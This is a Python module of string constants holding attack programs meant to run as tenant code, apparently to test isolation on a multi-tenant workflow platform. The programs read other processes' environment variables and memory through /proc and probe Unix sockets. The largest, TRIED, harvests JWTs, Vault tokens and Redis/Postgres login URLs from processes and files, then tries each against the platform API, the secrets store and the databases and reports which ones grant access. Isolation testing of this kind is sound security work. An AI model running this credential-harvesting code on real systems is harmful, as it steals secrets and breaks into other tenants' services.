"""Programs that several attacks run as tenant code."""

ENVIRONMENTS = """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid() or int(pid) == os.getppid():
        continue
    try:
        content = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        continue
    if b"KEPT" in content or b"AIRFLOW" in content:
        print(pid, content.decode(errors="replace"))
"""
"""Prints the environments of other processes that it can read and that hold something."""

MEMORIES = """
import os, re
MARK = os.environ["MARK"].encode()[::-1]
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) in (os.getpid(), os.getppid()):
        continue
    try:
        maps, memory = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps:
        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not found:
            continue
        start, end = (int(each, 16) for each in found.groups())
        try:
            memory.seek(start)
            if MARK in memory.read(min(end - start, 64 << 20)):
                print("found in", pid)
                break
        except (OSError, OverflowError, ValueError):
            continue
"""
"""Prints the processes in whose memory it finds the text that MARK holds backwards."""

SOCKETS = """
import os, socket
for path in sorted({line.split()[-1] for line in open("/proc/net/unix") if "/" in line}):
    if not path.startswith(os.environ["BELOW"]):
        continue
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(3)
    try:
        link.connect(path)
        print(path)
    except OSError:
        pass
"""
"""Prints the sockets below the folder BELOW that take a connection."""

TRIED = r"""
import itertools, os, re, socket, urllib.error, urllib.parse, urllib.request
import psycopg
LARGEST, MOST = 1 << 20, int(os.environ["MOST"])
found = {"token": set(), "url": set(), "vault": set()}
PATTERNS = {
    "token": rb"eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{20,}",
    "url": rb"(?:redis|postgres\w*(?:\+\w+)?)://[^\s\"'<>]+@[^\s\"'<>]+",
    # Those that are minted for a tenant are long, and have the letters of base64 in addresses.
    "vault": rb"\b(?:s\.[A-Za-z0-9]{20,}|hvs\.[\w-]{20,}|(?:hv)?b\.[\w-]{60,})",
}

def look(content):
    for kind, pattern in PATTERNS.items():
        found[kind].update(each.decode(errors="replace") for each in re.findall(pattern, content))

def read(name):
    try:
        if name.startswith("/proc/") or (os.path.isfile(name) and os.path.getsize(name) < LARGEST):
            with open(name, "rb") as file:
                return file.read(LARGEST)
    except OSError:
        pass
    return b""

def processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            yield from (f"/proc/{pid}/{name}" for name in ("environ", "cmdline"))

def files(places):
    for place in places:
        for folder, folders, names in os.walk(place):
            folders[:] = [name for name in folders if not name.startswith(("site-packages", "python3", "__py"))]
            yield from (os.path.join(folder, name) for name in names)

# What processes are told names folders that cannot be listed from above.
told = b"\0".join(map(read, processes()))
look(told)
named = {each.decode() for each in re.findall(rb"/[\w./-]{3,}", told)}
named = {each for each in named if not each.startswith(("/usr", "/proc", "/sys"))}
places = {each if os.path.isdir(each) else os.path.dirname(each) for each in named} - {"/", ""}
usual = ["/etc", "/run", "/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/opt", "/srv"]
state = os.environ["STATE"]
near = sorted(place for place in places if place.startswith(state + "/"))
for name in itertools.islice(files([*near, state, *usual, *sorted(places)]), MOST):
    look(read(name))

def answered(url, headers):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30).status == 200
    except (OSError, ValueError):
        return False

def redis(url):
    user, _, password = url.split("://")[1].rpartition("@")[0].partition(":")
    with socket.create_connection(("127.0.0.1", int(os.environ["REDIS"])), 5) as link:
        link.sendall(f"AUTH {user} {password}\r\n".encode() if user else f"AUTH {password}\r\n".encode())
        return link.recv(100).startswith(b"+OK")

def postgres(url):
    # Into the platform's own: others on this machine leave logins to servers of theirs.
    said = urllib.parse.urlsplit(url)
    given = {"user": said.username, "password": said.password, "dbname": said.path.strip("/")}
    login = {name: urllib.parse.unquote(value or "") for name, value in given.items()}
    with psycopg.connect(host="127.0.0.1", port=os.environ["POSTGRES"], connect_timeout=5, **login):
        return True

opened = []
api = os.environ["API"]
paths = "/api/v2/dags", "/execution/dags/" + os.environ["DAG"]
for token in found["token"]:
    opened += [path for path in paths if answered(api + path, {"Authorization": f"Bearer {token}"})]
for token in found["vault"]:
    # Whatever else it may do, a token that is valid may ask for this.
    if answered(os.environ["VAULT"] + "/v1/sys/internal/ui/mounts", {"X-Vault-Token": token}):
        opened.append("the secrets store")
for url in found["url"]:
    try:
        if (redis if url.startswith("redis") else postgres)(url):
            opened.append(url.split("://")[0])
    except Exception:
        pass
print(", ".join(sorted(set(opened))))
"""
"""Walks through MOST files, all environments and command lines; tries each login in them, prints what lets it in.

A task's token is one that reads DAG."""
